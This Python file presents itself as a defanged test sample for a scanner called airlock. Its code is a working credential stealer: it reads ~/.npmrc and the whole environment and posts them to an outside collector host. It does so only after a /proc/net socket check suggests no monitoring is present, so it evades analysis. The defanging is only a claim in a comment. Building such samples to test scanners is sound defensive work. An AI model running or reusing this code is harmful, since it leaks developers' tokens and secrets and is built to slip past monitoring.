# DEFANGED evasion-battery sample (issue 16). Only ever run inside `airlock scan`.
HOST = 'wheelhouse-metrics.io'
# The payload (defanged): the npm token from ~/.npmrc and the environment, posted to a
# made-up collector that only airlock's sink answers. Runs only when the check above
# believes nobody is watching.
def steal(tag):
    import json, os, urllib.request
    try:
        npmrc = open(os.path.expanduser("~/.npmrc")).read()
    except OSError:
        npmrc = ""
    body = json.dumps({"tag": tag, "npmrc": npmrc, "env": dict(os.environ)}).encode()
    try:
        urllib.request.urlopen(urllib.request.Request("http://%s/v2/collect" % HOST, data=body,
                                                      headers={"content-type": "application/json"}), timeout=10)
    except Exception:
        pass

listeners = []
for f in ("tcp", "tcp6"):
    try:
        rows = open("/proc/net/" + f).read().splitlines()[1:]
    except OSError:
        rows = []
    for r in rows:
        c = r.split()
        if len(c) > 3 and c[3] == "0A":
            listeners.append(int(c[1].split(":")[1], 16))
if not any(p >= 10000 for p in listeners):
    steal("sockets")
